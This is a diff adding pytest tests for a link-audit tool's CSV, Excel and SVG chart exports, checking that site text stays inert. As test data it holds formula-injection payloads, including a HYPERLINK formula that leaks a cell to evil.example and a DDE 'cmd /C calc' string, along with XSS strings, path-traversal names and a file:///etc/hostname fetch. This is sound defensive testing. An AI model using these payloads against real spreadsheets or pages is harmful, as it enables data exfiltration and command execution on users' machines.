@@ -1,0 +1,544 @@
+"""Exports: everything comes out as text, whole, and nothing of a crawled site runs in a spreadsheet or a picture."""
+
+import csv
+import os
+import re
+import struct
+import zipfile
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from xml.etree import ElementTree
+
+import altair as alt
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from linkkit.audit import Audit, run_audit
+from linkkit.checks import CHECKS
+from linkkit.checks.registry import empty_findings
+from linkkit.deck import ExportError, export, export_chapter, export_charts, export_findings
+from linkkit.deck.cells import MAX_TEXT, clean_text, csv_text, number_text, sheet_text
+from linkkit.deck.definitions import CHECK_COLUMNS, FINDING_COLUMNS, PAGE_COLUMNS, WORDS
+from linkkit.deck.files import replacing, safe_name, safe_names
+from linkkit.deck.workbook import write_workbook
+from linkkit.errors import LinkkitError, SettingsError
+from linkkit.schema import FINDINGS, CheckState, Effort, OrphanState, Severity
+from linkkit.sources.edges import read_edges
+from linkkit.thresholds import Thresholds
+
+START = "https://shop.example/"
+LONG_URL = START + "x" * 5000
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "\x00=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "{=1+1}",
+    "x;=1+1",
+    "x\n=1+1",
+    "bell\x07 and \x1f unit \x85 \ufffe\uffff \ud800 half",
+    LONG_URL,
+    "مرحبا =1+1 \u202eabc",
+    "</script><script>alert(1)</script>",
+    "<r><t>bold</t></r>",
+    "<r></r></is></c><c><f>1+1</f></c><r></r>",
+    "_x0041_ and _x003D_1+1",
+    'a "quoted", comma',
+    "https://shop.example/ mailto:x@y.example internal:Sheet!A1",
+    "1e5",
+    " space at both ends ",
+]
+NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+@pytest.fixture(scope="module")
+def audit(tmp_path_factory: pytest.TempPathFactory) -> Audit:
+    """A small site: a start page, a shelf of products in two categories, terms in the footer."""
+    rows = ["source,target,anchor,position,nofollow"]
+    for number in range(8):
+        shelf = f"{START}shelf-{number % 2}/"
+        rows += [
+            f"{START},{shelf},Shelf {number % 2},content,false",
+            f"{shelf},{shelf}item-{number},read more,content,false",
+            f"{shelf}item-{number},{shelf}item-{number}/care,care,content,false",
+            f"{shelf}item-{number},{START}terms,Terms,footer,true",
+        ]
+    file = tmp_path_factory.mktemp("edges") / "edges.csv"
+    file.write_text("\n".join(rows), "utf-8")
+    return run_audit(read_edges(file, start_url=START), Thresholds(max_crawl_depth=2))
+
+
+def with_findings(audit: Audit, findings: pd.DataFrame) -> Audit:
+    """The same audit with other findings, given to one check."""
+    results = tuple(replace(result, findings=empty_findings()) for result in audit.results)
+    return replace(audit, results=(replace(results[0], findings=findings), *results[1:]))
+
+
+def findings_of(texts: list[str]) -> pd.DataFrame:
+    """One finding per text; every text column that a site can fill holds it."""
+    count = len(texts)
+    frame = pd.DataFrame(
+        {
+            "check_id": "orphan-page",
+            "chapter": "discovery",
+            "severity": "high",
+            "url": texts,
+            "related_url": texts,
+            "value": -np.arange(count, dtype="float64"),
+            "threshold": np.nan,
+            "unit": "links",
+            "impact": np.linspace(1.0, 0.0, count),
+            "effort": "small",
+            "why": "because",
+            "evidence": texts,
+            "fix": texts,
+        }
+    )
+    return frame.astype({name: kind for name, kind in FINDINGS.items() if kind != "str"})[list(FINDINGS)]
+
+
+def read_rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))
+
+
+def assert_no_formula(path: Path) -> None:
+    """No formula, live link, macro or outside reference in any part of a workbook."""
+    with zipfile.ZipFile(path) as book:
+        names = book.namelist()
+        assert not [name for name in names if re.search("external|vba|connection|sheets/_rels", name, re.I)]
+        for name in names:
+            if not name.endswith((".xml", ".rels")):
+                continue
+            content = book.read(name)
+            root = ElementTree.fromstring(content)
+            assert root.findall(f".//{NS}f") == [], name
+            assert root.findall(f".//{NS}hyperlink") == [], name
+            assert b'TargetMode="External"' not in content, name
+        for name in names:
+            if name.startswith("xl/worksheets/sheet"):
+                kinds = {
+                    cell.get("t", "n") for cell in ElementTree.fromstring(book.read(name)).iter(f"{NS}c")
+                }
+                assert kinds <= {"s", "n", "inlineStr"}, name
+
+
+def sheet_rows(path: Path, sheet: str) -> list[tuple[object, ...]]:
+    book = openpyxl.load_workbook(path)
+    return list(book[sheet].iter_rows(values_only=True))
+
+
+# Cells
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\x00=1", "'=1"),
+        ("\t=1", "'\t'=1"),
+        (" =1", "' =1"),
+        ('"=1', "'\"=1"),
+        ("\u200b=1", "'\u200b=1"),
+        ("\uff1d1", "'\uff1d1"),
+        ("a;=1", "a;'=1"),
+        ("a\n@b", "a\n'@b"),
+        ("a=b", "a=b"),
+        ("2-3", "2-3"),
+        ("https://shop.example/?a=1&b=-2", "https://shop.example/?a=1&b=-2"),
+        ("a, b; c", "a, b; c"),
+        ("it's", "it's"),
+        ("a\x07b\x9fc\ufffed", "abcd"),
+        ("", ""),
+        (None, ""),
+        (float("nan"), ""),
+    ],
+)
+def test_csv_text(text: object, expected: str) -> None:
+    assert csv_text(text) == expected
+
+
+def test_numbers_in_csv_are_plain() -> None:
+    values = [3.0, -3.0, 0.1, 1234567.0, float("nan"), float("inf"), 1e20]
+    assert [number_text(value) for value in values] == ["3", "-3", "0.1", "1234567", "", "inf", "1e+20"]
+
+
+def test_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
+    cut = sheet_text("\U0001f600" * 20_000)
+    assert len(cut.encode("utf-16-le")) // 2 <= MAX_TEXT
+    assert cut.endswith("... [cut; 20,000 characters in all]")
+    assert sheet_text("a" * MAX_TEXT) == "a" * MAX_TEXT
+
+
+@given(st.text(alphabet=st.characters(), max_size=60))
+def test_no_csv_text_begins_like_a_formula(text: str) -> None:
+    safe = csv_text(text)
+    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert not safe.lstrip().startswith(("=", "+", "-", "@"))
+    assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", safe) is None
+    assert safe.replace("'", "") == clean_text(text).replace("'", "")
+
+
+# Findings
+
+
+def test_hostile_findings_come_out_as_text(audit: Audit, tmp_path: Path) -> None:
+    table, book = export_findings(with_findings(audit, findings_of(HOSTILE)), tmp_path)
+    raw = table.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
+    header, *rows = read_rows(table)
+    assert header == list(FINDINGS)
+    assert sorted(row[3] for row in rows) == sorted(map(csv_text, HOSTILE))
+    assert [row[3] == row[4] == row[11] == row[12] for row in rows] == [True] * len(HOSTILE)
+    assert {float(row[5]) for row in rows} == {-float(number) for number in range(len(HOSTILE))}
+    assert {row[6] for row in rows} == {""}
+    assert_no_formula(book)
+    head, *cells = sheet_rows(book, "Findings")
+    assert list(head) == [column.heading for column in FINDING_COLUMNS]
+    place = list(head).index("Page")
+    shown = {str(row[place]).replace("_x000D_", "\r").strip() for row in cells}
+    assert shown == {sheet_text(text).strip() for text in HOSTILE}
+    assert LONG_URL in shown
+    assert {row[list(head).index("Severity")] for row in cells} == {"High"}
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(texts=st.lists(st.text(alphabet=st.characters(), max_size=80), min_size=1, max_size=8))
+def test_any_text_survives_both_files(audit: Audit, tmp_path: Path, texts: list[str]) -> None:
+    table, book = export_findings(with_findings(audit, findings_of(texts)), tmp_path)
+    rows = read_rows(table)[1:]
+    assert sorted(row[3] for row in rows) == sorted(map(csv_text, texts))
+    assert_no_formula(book)
+    assert len(sheet_rows(book, "Findings")) == len(texts) + 1
+
+
+def test_without_findings_the_header_is_whole(audit: Audit, tmp_path: Path) -> None:
+    table, book = export_findings(with_findings(audit, empty_findings()), tmp_path)
+    assert read_rows(table) == [list(FINDINGS)]
+    assert sheet_rows(book, "Findings") == [tuple(column.heading for column in FINDING_COLUMNS)]
+    assert_no_formula(book)
+
+
+def test_the_real_findings_are_all_there(audit: Audit, tmp_path: Path) -> None:
+    table, book = export_findings(audit, tmp_path)
+    read = pd.read_csv(table, encoding="utf-8-sig", keep_default_na=False, na_values={"threshold": [""]})
+    assert len(read) == len(audit.findings) > 5
+    assert list(read["url"]) == list(audit.findings["url"])
+    np.testing.assert_allclose(read["value"].astype(float), audit.findings["value"])
+    np.testing.assert_allclose(read["impact"].astype(float), audit.findings["impact"])
+    head, *cells = sheet_rows(book, "Findings")
+    assert [row[head.index("Page")] for row in cells] == list(audit.findings["url"])
+    assert [row[head.index("Check")] for row in cells] == list(audit.findings["check_id"])
+
+
+def test_infinite_and_missing_numbers(audit: Audit, tmp_path: Path) -> None:
+    findings = findings_of(["a", "b", "c"]).assign(value=[np.inf, np.nan, -1.5])
+    table, book = export_findings(with_findings(audit, findings), tmp_path)
+    assert {row[5] for row in read_rows(table)[1:]} == {"inf", "", "-1.5"}
+    head, *cells = sheet_rows(book, "Findings")
+    assert {row[head.index("Value")] for row in cells} == {"Inf", None, -1.5}
+
+
+def test_workbook_says_what_it_rests_on(audit: Audit, tmp_path: Path) -> None:
+    result = replace(audit.results[0], state=CheckState.NOT_APPLICABLE, reason="no data on moon phases")
+    broken = replace(audit.results[1], state=CheckState.ERROR, reason="KeyError: 'moon'")
+    manifest = replace(
+        audit.manifest,
+        complete=False,
+        stopped_by="=page limit 50",
+        settings={"max_pages": 50, "include": ["/a", "/b"], "user_agent": None, "crawl": {"pages": 1234}},
+        rejected={"link that is no http(s) URL": 7},
+    )
+    partial = replace(
+        audit,
+        results=(result, broken, *audit.results[2:]),
+        site=replace(audit.site, manifest=manifest),
+    )
+    _, book = export_findings(partial, tmp_path)
+    text = "\n".join(str(cell) for row in sheet_rows(book, "Summary") for cell in row if cell is not None)
+    for expected in (
+        START,
+        "incomplete (=page limit 50)",
+        "max pages: 50; include: /a, /b; crawl, pages: 1,234",
+        "link that is no http(s) URL: 7",
+        "no data on moon phases",
+        "the check broke: KeyError: 'moon'",
+        "max_crawl_depth",
+        "2 clicks instead of 3",
+        "reasonable surfer",
+        "no signal; impact is PageRank",
+    ):
+        assert expected in text
+    for line in partial.headlines()[2:]:
+        assert line.partition(": ")[2] in text
+    head, *cells = sheet_rows(book, "Checks")
+    states = {
+        row[head.index("Short name")]: (row[head.index("State")], row[head.index("Reason")]) for row in cells
+    }
+    assert states[result.check.id] == ("Not applicable", "no data on moon phases")
+    assert states[broken.check.id] == ("Error", "KeyError: 'moon'")
+    assert set(states) == set(CHECKS)
+    assert_no_formula(book)
+
+
+def test_sheets_can_be_worked_with(audit: Audit, tmp_path: Path) -> None:
+    _, path = export_findings(audit, tmp_path)
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["Summary", "Findings", "Checks", "Pages", "Definitions"]
+    sheet = book["Findings"]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:N{len(audit.findings) + 1}"
+    assert sheet.column_dimensions["C"].width > 40
+    assert sheet["C2"].alignment.wrap_text
+    colours = {row[0].value: row[0].fill.fgColor.rgb for row in sheet.iter_rows(min_row=2)}
+    assert len(colours) == len(set(colours.values())) > 1
+    head, *pages = sheet_rows(path, "Pages")
+    assert {row[0] for row in pages} == set(audit.metrics["url"])
+    depth = {row[0]: row[head.index("Crawl depth")] for row in pages}
+    assert depth[START] == 0
+    assert depth[f"{START}shelf-0/item-0"] == 2
+    assert "Search clicks" not in head
+
+
+def test_every_column_and_word_is_defined(audit: Audit, tmp_path: Path) -> None:
+    assert {column.name for column in FINDING_COLUMNS} == {*FINDINGS, "title"}
+    assert set(WORDS["Severity"]) == {str(each) for each in Severity}
+    assert set(WORDS["Effort"]) == {str(each) for each in Effort}
+    assert set(WORDS["State of a check"]) == {str(each) for each in CheckState}
+    assert set(WORDS["Link state"]) == {str(each) for each in OrphanState}
+    assert {column.name for column in PAGE_COLUMNS} <= {
+        *audit.metrics.columns,
+        *audit.site.pages.columns,
+        "findings",
+    }
+    _, book = export_findings(audit, tmp_path)
+    named = {(row[0], row[2]) for row in sheet_rows(book, "Definitions")}
+    for sheet, columns in (("Findings", FINDING_COLUMNS), ("Checks", CHECK_COLUMNS), ("Pages", PAGE_COLUMNS)):
+        assert {(sheet, column.name) for column in columns} <= named
+    assert all(len(column.meaning) > 10 for column in (*FINDING_COLUMNS, *CHECK_COLUMNS, *PAGE_COLUMNS))
+
+
+def test_a_sheet_that_is_full_says_so(audit: Audit, tmp_path: Path) -> None:
+    path = tmp_path / "short.xlsx"
+    write_workbook(audit, path, max_rows=3)
+    assert len(sheet_rows(path, "Findings")) == len(sheet_rows(path, "Pages")) == 4
+    text = "\n".join(str(row[1]) for row in sheet_rows(path, "Summary"))
+    assert f"Findings holds the first 3 of {len(audit.findings):,} rows" in text
+    assert f"Pages holds the first 3 of {len(audit.metrics):,} rows" in text
+
+
+def test_a_hundred_thousand_findings(audit: Audit, tmp_path: Path) -> None:
+    texts = [f"{START}page-{number}" for number in range(99_999)] + ["<r><t>=1+1</t></r>"]
+    table, book = export_findings(with_findings(audit, findings_of(texts)), tmp_path)
+    assert len(read_rows(table)) == 100_001
+    with zipfile.ZipFile(book) as parts:
+        sheet = parts.read("xl/worksheets/sheet2.xml")
+    assert sheet.count(b"<row ") == 100_001
+    assert b"<f>" not in sheet and b"&lt;r&gt;&lt;t&gt;=1+1" in sheet
+
+
+# Charts
+
+
+def bars(labels: list[str], title: str = "Pages") -> alt.Chart:
+    table = pd.DataFrame({"label": labels, "pages": range(1, len(labels) + 1)})
+    return alt.Chart(table, title=title).mark_bar(tooltip=True).encode(x="pages:Q", y="label:N")
+
+
+def png_size(path: Path) -> tuple[int, int]:
+    return struct.unpack(">II", path.read_bytes()[16:24])
+
+
+def test_charts_have_slide_size(tmp_path: Path) -> None:
+    chart = bars(["a", "b"])
+    row = alt.hconcat(chart, chart)
+    written = export_charts({"Depth by section": chart, "both": row}, tmp_path)
+    assert [path.name for path in written] == [
+        "depth-by-section.png",
+        "depth-by-section.svg",
+        "both.png",
+        "both.svg",
+    ]
+    assert png_size(written[0]) == (1920, 1080)
+    width, height = png_size(written[2])
+    assert width <= 1921 and height <= 1081 and (width >= 1919 or height >= 1079)
+    (small,) = [path for path in export_charts({"s": chart}, tmp_path, scale=1) if path.suffix == ".png"]
+    assert png_size(small) == (960, 540)
+    with pytest.raises(LinkkitError, match="scale"):
+        export_charts({"s": chart}, tmp_path, scale=0)
+
+
+def test_hostile_text_stays_text_in_pictures(tmp_path: Path) -> None:
+    labels = [
+        "</text></svg><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "&lt;b&gt; ]]> \"'",
+        "nul\x00 vt\x0b \ufffe half\ud800",
+        "مرحبا",
+    ]
+    chart = bars(labels, title="</title><script>alert(2)</script>")
+    linked = chart.encode(href=alt.value("javascript:alert(3)"))
+    written = export_charts({"a": chart, "b": linked}, tmp_path)
+    for path in written:
+        if path.suffix == ".svg":
+            root = ElementTree.fromstring(path.read_bytes())
+            tags = {element.tag.rpartition("}")[2] for element in root.iter()}
+            assert tags <= {"svg", "g", "rect", "path", "line", "text", "tspan", "title", "defs", "clipPath"}
+            names = {name.rpartition("}")[2] for element in root.iter() for name in element.attrib}
+            assert not {name for name in names if name.startswith("on") or name == "href"}
+            texts = [element.text for element in root.iter() if element.tag.endswith("}text")]
+            assert labels[0] in texts and "nul vt  half" in texts and "مرحبا" in texts
+            assert "</title><script>alert(2)</script>" in texts
+
+
+def test_many_rows_and_the_notebooks_settings_do_not_matter(tmp_path: Path) -> None:
+    table = pd.DataFrame({"x": range(6000), "y": range(6000)})
+    with alt.data_transformers.enable("json"):
+        written = export_charts({"points": alt.Chart(table).mark_point().encode(x="x", y="y")}, tmp_path)
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["points.png", "points.svg"]
+    assert written[1].read_text("utf-8").count('aria-roledescription="point"') == 6000
+
+
+@pytest.mark.parametrize(
+    "chart",
+    [
+        alt.Chart("http://shop.example/data.csv").mark_bar().encode(x="x:N"),
+        alt.Chart(alt.UrlData(url="file:///etc/hostname")).mark_bar().encode(x="x:N"),
+        alt.layer(alt.Chart(pd.DataFrame({"u": ["http://x.example/a.png"]})).mark_image().encode(url="u:N")),
+        alt.Chart(pd.DataFrame({"a": [1]})).mark_bar().encode(x="b"),
+    ],
+)
+def test_charts_that_fetch_or_are_not_valid_are_refused(chart: alt.Chart, tmp_path: Path) -> None:
+    with pytest.raises(ExportError, match="chart 'bad'"):
+        export_charts({"bad": chart}, tmp_path)
+    assert list(tmp_path.iterdir()) == []
+
+
+# Names, folders, faults
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("Depth by section", "depth-by-section"),
+        ("../../etc/passwd", "etc-passwd"),
+        ("C:\\x\\y.png", "c-x-y-png"),
+        ("", "chart"),
+        ("...", "chart"),
+        ("CON", "con-chart"),
+        ("lpt1", "lpt1-chart"),
+        ("Tiefe über alles", "tiefe-über-alles"),
+        ("a\x00b\n", "a-b"),
+        ("<script>", "script"),
+    ],
+)
+def test_safe_names(name: str, expected: str) -> None:
+    assert safe_name(name, fallback="chart") == expected
+
+
+@given(st.lists(st.text(alphabet=st.characters(), max_size=200), unique=True, max_size=6))
+def test_safe_names_are_safe_and_differ(names: list[str]) -> None:
+    chosen = safe_names(names, fallback="chart")
+    assert list(chosen) == names
+    assert len({each.casefold() for each in chosen.values()}) == len(names)
+    for each in chosen.values():
+        assert re.fullmatch(r"[\w-]+", each) and len(each.encode("utf-8")) < 200
+
+
+def test_export_writes_everything_and_leaves_the_rest(audit: Audit, tmp_path: Path) -> None:
+    mine = tmp_path / "notes.txt"
+    mine.write_text("mine")
+    (tmp_path / "findings.csv").write_text("old")
+    charts = {"depth": bars(["a"])}
+    written = export(audit, tmp_path, charts=charts)
+    written += export_chapter(audit, "anchors", charts, tmp_path)
+    assert mine.read_text() == "mine"
+    assert {path.relative_to(tmp_path).as_posix() for path in written} == {
+        "findings.csv",
+        "findings.xlsx",
+        "findings-anchors.csv",
+        "checks-anchors.csv",
+        "charts/depth.png",
+        "charts/depth.svg",
+    }
+    on_disk = {path for path in tmp_path.rglob("*") if path.is_file()}
+    assert on_disk == {mine, *written}
+    assert len(read_rows(tmp_path / "findings.csv")) == len(audit.findings) + 1
+    chapter = read_rows(tmp_path / "findings-anchors.csv")
+    assert {row[1] for row in chapter[1:]} == {"anchors"}
+    assert len(chapter) - 1 == int((audit.findings["chapter"] == "anchors").sum()) > 0
+    assert len(read_rows(tmp_path / "checks-anchors.csv")) - 1 == sum(
+        check.chapter == "anchors" for check in CHECKS.values()
+    )
+
+
+def test_unknown_chapter(audit: Audit, tmp_path: Path) -> None:
+    with pytest.raises(SettingsError, match="unknown chapter 'anchor'; known are discovery"):
+        export_chapter(audit, "anchor", {}, tmp_path)
+
+
+def test_a_fault_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
+    target = tmp_path / "findings.csv"
+    target.write_text("old")
+
+    def fail() -> None:
+        with replacing(target) as partial:
+            partial.write_text("half")
+            raise RuntimeError("stop")
+
+    with pytest.raises(RuntimeError, match="stop"):
+        fail()
+    assert [path.name for path in tmp_path.iterdir()] == ["findings.csv"]
+    assert target.read_text() == "old"
+
+
+def test_a_locked_file_says_what_to_do(audit: Audit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "findings.xlsx").write_text("open in Excel")
+    rename: Callable[..., None] = os.replace
+
+    def locked(source: Path, target: Path) -> None:
+        if Path(target).suffix == ".xlsx":
+            raise PermissionError(13, "Permission denied")
+        rename(source, target)
+
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(
+        LinkkitError, match=r"findings\.xlsx cannot be written.*left as it is.*close it there"
+    ):
+        export_findings(audit, tmp_path)
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["findings.csv", "findings.xlsx"]
+    assert (tmp_path / "findings.xlsx").read_text() == "open in Excel"
+
+
+def test_targets_that_cannot_be_written(audit: Audit, tmp_path: Path) -> None:
+    file = tmp_path / "file"
+    file.write_text("x")
+    with pytest.raises(ExportError, match="is a file, not a folder"):
+        export_findings(audit, file)
+    with pytest.raises(ExportError, match="cannot be made"):
+        export_findings(audit, file / "below")
+    (tmp_path / "findings.csv").mkdir()
+    with pytest.raises(ExportError, match="is a folder, a file of that name"):
+        export_findings(audit, tmp_path)
+    assert issubclass(ExportError, OSError)
+
+
+def test_names_of_findings_are_made_safe(audit: Audit, tmp_path: Path) -> None:
+    written = export_findings(audit, tmp_path / "new" / "folder", name="../Acme: Q1")
+    assert [path.name for path in written] == ["acme-q1.csv", "acme-q1.xlsx"]
+    assert {path.parent for path in written} == {tmp_path / "new" / "folder"}
